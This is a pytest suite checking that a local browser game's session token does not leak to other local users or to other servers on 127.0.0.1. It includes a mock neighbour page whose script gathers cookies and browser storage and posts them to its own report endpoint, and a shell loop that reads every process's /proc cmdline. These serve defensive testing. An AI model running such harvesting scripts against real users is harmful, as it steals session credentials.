"""The browser game's token stays with the person who started the game (the
red team's attacks on ``tajmahal play``'s token, round 4).

The token was on the browser's command line (``/proc/PID/cmdline``: any local
user could read it and play the person's moves) and in a cookie, which the
browser sends to every server on 127.0.0.1 whatever its port.  Now the browser
is opened on a launch file only its owner can read, the page keeps the token in
its tab's ``sessionStorage`` and sends it in a header: another user reads nothing
useful, and a server on another port receives nothing.  A ``BROWSER`` command
that runs in the foreground does not stall the game.
"""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from browser_support import browser, next_decision, page

from tajmahal.arena.websession import LAUNCH_FILE, Launch, WebSession, open_browser

__all__ = ["browser", "page"]

pytest.importorskip("uvicorn")
LINUX = sys.platform.startswith("linux")


def fake_browser(folder: Path, stay: bool) -> Path:
    """A ``BROWSER`` command (no ``&``) that notes its pid and arguments, then
    runs in the foreground for minutes (``stay``) or exits."""
    script = folder / "browser.sh"
    script.write_text(
        "#!/bin/sh\n"
        f'echo $$ > "{folder}/browser.pid"\n'
        f'printf "%s\\n" "$@" > "{folder}/browser.args.part"\n'
        f'mv "{folder}/browser.args.part" "{folder}/browser.args"\n'
        + ("exec sleep 600\n" if stay else "")
    )
    script.chmod(0o755)
    return script


def wait_for(path: Path, seconds: float = 30) -> str:
    deadline = time.monotonic() + seconds
    while not path.exists():
        assert time.monotonic() < deadline, f"{path} never came"
        time.sleep(0.05)
    return path.read_text()


class Play:
    """``tajmahal play human first`` in a subprocess, its browser ``BROWSER``."""

    def __init__(self, folder: Path, browser_command: Path, *args: str) -> None:
        env = {**os.environ, "BROWSER": str(browser_command)}
        self.process = subprocess.Popen(
            [sys.executable, "-m", "tajmahal", "play", "human", "first", "--seed", "3",
             "--port", "0", "--pace", "0", *args],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
        )
        assert self.process.stdout is not None  # the address, on stdout
        first = self.process.stdout.readline()
        assert "the game is at http://127.0.0.1:" in first, first
        self.address = first.split(" at ", 1)[1].split()[0]
        self.base, self.token = self.address.split("#token=", 1)
        second = self.process.stdout.readline()
        assert "opening it in your browser through file://" in second, second
        self.launch = Path(second.split("file://", 1)[1].split()[0])

    def state(self) -> dict[str, Any]:
        request = urllib.request.Request(
            f"{self.base}api/state?since=0", headers={"Authorization": f"Bearer {self.token}"}
        )
        with urllib.request.urlopen(request, timeout=10) as answer:
            data: dict[str, Any] = json.loads(answer.read())
            return data

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
        self.process.communicate(timeout=30)


def command_lines() -> str:
    """Every command line this process can read, joined."""
    lines = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                lines.append(Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace"))
            except OSError:
                continue
    return "\n".join(lines)


@pytest.mark.skipif(not LINUX, reason="Linux /proc")
def test_another_user_reads_no_token_and_a_foreground_browser_stalls_nothing(
    tmp_path: Path,
) -> None:
    play = Play(tmp_path, fake_browser(tmp_path, stay=True))
    browser_pid = 0
    try:
        args = wait_for(tmp_path / "browser.args").split()
        browser_pid = int(wait_for(tmp_path / "browser.pid"))
        # the browser got the launch file, not the address with the token
        assert args == [play.launch.as_uri()] and play.token not in " ".join(args)
        assert os.path.exists(f"/proc/{browser_pid}")  # still in the foreground ...
        assert play.state()["pending"]["seat"] == 0  # ... and the game goes on
        # the browser is not the game's child (the referee does not adopt it)
        parent = Path(f"/proc/{browser_pid}/stat").read_text().rsplit(")", 1)[1].split()[1]
        assert int(parent) != play.process.pid
        # no command line of any process holds the token
        assert play.token not in command_lines()
        # the launch file: readable by its owner only, in a folder of its own
        assert play.launch.name == LAUNCH_FILE
        assert stat.S_IMODE(play.launch.stat().st_mode) == 0o600
        assert stat.S_IMODE(play.launch.parent.stat().st_mode) == 0o700
        assert play.launch.stat().st_uid == os.getuid()
        assert f"#token={play.token}" in play.launch.read_text()  # it does redirect
        if os.geteuid() == 0:  # another local user, for real
            seen = subprocess.run(
                ["runuser", "-u", "nobody", "--", "sh", "-c",
                 'for f in /proc/[0-9]*/cmdline; do tr "\\0" " " < "$f"; echo; done; '
                 'cat "$1"; ls "$2"', "sh", str(play.launch), str(play.launch.parent)],
                capture_output=True, text=True, check=False,
            )
            assert "tajmahal play human first" in seen.stdout  # it did read /proc
            assert play.token not in seen.stdout + seen.stderr
            assert seen.stderr.count("Permission denied") == 2, seen.stderr
    finally:
        play.stop()
        if browser_pid:
            os.kill(browser_pid, signal.SIGKILL)
    assert not play.launch.parent.exists()  # removed with the game


def test_a_session_admits_its_token_in_the_header_only() -> None:
    session = WebSession("tajmahal play")
    good = {"authorization": f"Bearer {session.token}"}
    assert session.admits(good)
    assert session.admits({"authorization": f"bearer  {session.token} "})
    for headers in (
        {},
        {"authorization": session.token},
        {"authorization": f"Basic {session.token}"},
        {"authorization": f"Bearer {session.token[:-1]}"},
        {"cookie": f"token={session.token}"},
    ):
        assert not session.admits(headers), headers
    assert WebSession("x").token != session.token
    assert session.address("http://127.0.0.1:8/") == f"http://127.0.0.1:8/#token={session.token}"


def test_the_launch_file_redirects_and_goes_with_its_folder() -> None:
    address = "http://127.0.0.1:8/#token=abc"
    with Launch(address, "Taj <Mahal>") as launch:
        text = launch.path.read_text()
        assert f'content="0;url={address}"' in text and "Taj &lt;Mahal&gt;" in text
        assert stat.S_IMODE(launch.path.stat().st_mode) == 0o600
        assert stat.S_IMODE(launch.folder.stat().st_mode) == 0o700
        assert launch.uri == launch.path.as_uri() and "abc" not in launch.uri
    assert not launch.folder.exists()


@pytest.mark.skipif(not LINUX, reason="Linux /proc")
def test_open_browser_returns_while_a_foreground_browser_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BROWSER", str(fake_browser(tmp_path, stay=True)))
    open_browser("file:///nowhere/open.html")
    pid = int(wait_for(tmp_path / "browser.pid"))
    try:
        assert wait_for(tmp_path / "browser.args").split() == ["file:///nowhere/open.html"]
        assert os.path.exists(f"/proc/{pid}")  # returned, the browser still running
    finally:
        os.kill(pid, signal.SIGKILL)


class Neighbour:
    """Another server on 127.0.0.1 (another user's, say), on a port of its own:
    it keeps every request whole, and its page reports what it can find of the
    game's token (its storage, its cookies, the game's state)."""

    PAGE = """<!DOCTYPE html><html><body><script>
    const found = {cookie: document.cookie, session: {...sessionStorage},
                   local: {...localStorage}, href: location.href};
    fetch("GAME/api/state?since=0", {credentials: "include", mode: "no-cors"})
      .then(r => r.type + " " + r.status, e => "refused: " + e)
      .then(game => { found.game = game;
        return fetch("/report", {method: "POST", body: JSON.stringify(found)}); })
      .then(() => { document.body.dataset.done = "1"; });
    </script></body></html>"""

    def __init__(self, game: str) -> None:
        self.requests: list[tuple[str, dict[str, str], bytes]] = []  # line, headers, body
        self.report: dict[str, Any] = {}
        neighbour = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                neighbour.requests.append((self.requestline, dict(self.headers), b""))
                body = neighbour.PAGE.replace("GAME", game).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                data = self.rfile.read(int(self.headers["Content-Length"]))
                neighbour.requests.append((self.requestline, dict(self.headers), data))
                neighbour.report = json.loads(data)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def neighbour_of() -> Iterator[list[Neighbour]]:
    made: list[Neighbour] = []
    yield made
    for n in made:
        n.close()


@pytest.mark.once
def test_a_server_on_another_port_receives_nothing_of_the_game(
    tmp_path: Path, neighbour_of: list[Neighbour], page: Any
) -> None:
    """The browser opens the launch file (as `play` has it opened), plays in the
    game's page, then visits another port of 127.0.0.1 in the same tab: that
    server gets no cookie, no token, and its page finds none; back on the game's
    page, the game goes on (the tab kept its token)."""
    play = Play(tmp_path, fake_browser(tmp_path, stay=False))
    try:
        neighbour = Neighbour(play.base.rstrip("/"))
        neighbour_of.append(neighbour)
        page.goto(wait_for(tmp_path / "browser.args").strip())  # the launch file
        assert next_decision(page)
        assert page.evaluate("location.href") == play.base  # the token is out of sight
        assert page.evaluate("document.cookie") == ""
        page.goto(neighbour.url)
        page.wait_for_function("document.body.dataset.done === '1'")
        assert len(neighbour.requests) >= 2  # its page, and the report
        for line, headers, body in neighbour.requests:
            assert "cookie" not in {name.lower() for name in headers}, (line, headers)
            assert play.token not in f"{line} {headers} {body!r}"
        report = neighbour.report
        assert report["cookie"] == "" and report["session"] == {} and report["local"] == {}
        assert report["game"] in ("opaque 0",) or report["game"].startswith("refused")
        # the one error: the game refused the neighbour's request (403)
        assert page.errors == [
            "console: Failed to load resource: the server responded with a status of 403 "
            "(Forbidden)"]
        page.errors.clear()
        page.go_back()
        assert next_decision(page)  # the game's tab still has its token
        assert page.locator("#picture #hand-0").count() == 1
        page.goto("about:blank")  # before the game's server stops
    finally:
        play.stop()
